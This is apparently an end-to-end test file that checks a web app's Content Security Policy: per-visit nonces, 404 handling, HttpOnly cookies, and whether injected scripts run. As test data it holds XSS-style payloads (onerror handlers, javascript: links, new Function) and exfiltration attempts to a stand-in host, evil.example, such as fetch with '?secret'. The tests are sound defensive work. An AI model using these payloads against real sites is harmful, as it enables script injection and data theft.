import type { BrowserContext } from "playwright-core";
import { beforeAll, describe, expect, it } from "vitest";
import { DEMO_USERS } from "../../scripts/seed-demo";
import { finishedJob, PAGES } from "../support/api";
import { oneBrowser, planCampaign, signIn } from "../support/browser";

const browser = oneBrowser();

const forVisitors = ["/", "/forgot-password", "/reset-password", "/sign-in", "/sign-up"];

describe("a page", () => {
  let addresses: Record<string, string>;
  let storageState: Awaited<ReturnType<BrowserContext["storageState"]>>;

  beforeAll(async () => {
    const { page, context } = await browser.visitor();
    await signIn(page, DEMO_USERS.admin);
    const campaign = new URL(await planCampaign(page, "Visited")).pathname.split("/")[2] ?? "";
    storageState = await context.storageState();
    await context.close();
    const { jobId, person } = await finishedJob();
    addresses = { campaigns: campaign, jobs: jobId, users: person.id };
  });

  /** Its address with ids of things that exist. */
  const addressOf = (path: string) =>
    path.replace(/(\w+)\/\[id\]/, (_, noun: string) => `${noun}/${addresses[noun]}`);

  it.each(PAGES)("%s keeps to its policy, with a nonce of its own each time", async (path) => {
    const isForVisitors = forVisitors.includes(path);
    const { page, context } = await browser.visitor(isForVisitors ? {} : { storageState });
    const nonces: string[] = [];
    for (let visit = 0; visit < 2; visit += 1) {
      const answer = await context.request.get(addressOf(path));
      const policy = answer.headers()["content-security-policy"] ?? "";
      const nonce = /'nonce-([\w+/]{22}==)'/.exec(policy)?.[1] ?? "none";
      nonces.push(nonce);
      const scripts = (await answer.text()).match(/<script\b[^>]*>/g) ?? [];
      expect(scripts.length).toBeGreaterThan(0);
      expect(scripts.filter((tag) => !tag.includes(`nonce="${nonce}"`))).toEqual([]);
    }
    await page.goto(addressOf(path), { waitUntil: "load" });
    await page.locator("h1, h2").first().waitFor();
    expect(new Set(nonces).size).toBe(2);
    await context.close();
  });

  it("that is not there keeps to it too, also where a file could be", async () => {
    const { page, context } = await browser.visitor();
    for (const path of ["/nowhere", "/nowhere.png", "/robots.txt", "/app.webmanifest"]) {
      const answer = await page.goto(path);
      expect(answer?.status()).toBe(404);
      await page.getByRole("heading", { name: "There is nothing here" }).waitFor();
    }
    await context.close();
  });
});

describe("what got into a page", () => {
  const run = "window.ran = true";

  it.each<[string, string]>([
    [
      "a script that another one writes",
      `document.body.append(Object.assign(document.createElement("script"), { text: "${run}" }))`,
    ],
    [
      "a handler in an attribute",
      `document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='${run}'>")`,
    ],
    [
      "a javascript: link",
      `const link = Object.assign(document.createElement("a"), { href: "javascript:${run}" });
       document.body.append(link); link.click()`,
    ],
    ["a text that is evaluated", `new Function("${run}")()`],
    ["a worker of its own making", `new Worker(URL.createObjectURL(new Blob(["${run}"])))`],
  ])("%s is not run", async (_, attempt) => {
    const { page, context } = await browser.visitor();
    await page.goto("/sign-in");

    // Later, as a script of the page would: what a test evaluates itself may evaluate more.
    await page.evaluate(`void setTimeout(() => { ${attempt} })`);

    await expect
      .poll(() => browser.takeComplaints().length, { timeout: 10_000 })
      .toBeGreaterThan(0);
    expect(await page.evaluate("window.ran")).toBeUndefined();
    await context.close();
  });

  it("a script in its markup is not run", async () => {
    const { page, context } = await browser.visitor();
    await page.route("**/sign-in", async (route) => {
      const answer = await route.fetch();
      const body = (await answer.text()).replace("<main", `<script>${run}</script><main`);
      await route.fulfill({ response: answer, body });
    });
    await page.goto("/sign-in");

    expect(await page.content()).toContain(`<script>${run}</script>`);
    expect(browser.takeComplaints().join()).toContain("script-src");
    expect(await page.evaluate("window.ran")).toBeUndefined();
    await context.close();
  });

  it.each<[string, string]>([
    ["frame-src", `add("<iframe src='https://evil.example/'></iframe>")`],
    ["object-src", `add("<object data='https://evil.example/'></object>")`],
    ["img-src", `add("<img src='https://evil.example/?secret'>")`],
    ["media-src", `add("<video src='https://evil.example/?secret'></video>")`],
    ["style-src", `add("<style>body { display: none }</style>")`],
    [
      "base-uri",
      `document.head.insertAdjacentHTML("beforeend", "<base href='https://evil.example/'>")`,
    ],
    ["form-action", `add("<form id='form' action='https://evil.example/'></form>"); form.submit()`],
    [
      "script-src",
      `document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/a.js" }))`,
    ],
    ["connect-src", `fetch("https://evil.example/?secret").catch(() => {})`],
  ])("that leads elsewhere by %s gets nowhere", async (directive, attempt) => {
    const { page, context } = await browser.visitor();
    await page.goto("/sign-in");

    await page.evaluate(
      `void setTimeout(() => {
        const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
        ${attempt};
      })`,
    );

    await expect
      .poll(() => browser.takeComplaints().join(), { timeout: 10_000 })
      .toMatch(new RegExp(`${directive}|default-src`));
    await context.close();
  });
});

describe("the cookies of the studio", () => {
  it("are there and can be read by no script, whatever was chosen", async () => {
    const { page, context } = await browser.visitor();
    await signIn(page, DEMO_USERS.creator);
    await page.goto("/settings");
    await page.getByText("Français").click();
    await page.getByRole("heading", { name: "Réglages" }).waitFor();
    await page.getByText("Sombre", { exact: true }).click();
    await page.locator('html[data-theme="dark"]').waitFor();

    const names = (await context.cookies()).map(({ name }) => name);

    expect(names).toEqual(expect.arrayContaining(["locale", "sb-app-auth", "theme"]));
    expect(await page.evaluate("document.cookie")).toBe("");
    await context.close();
  });
});
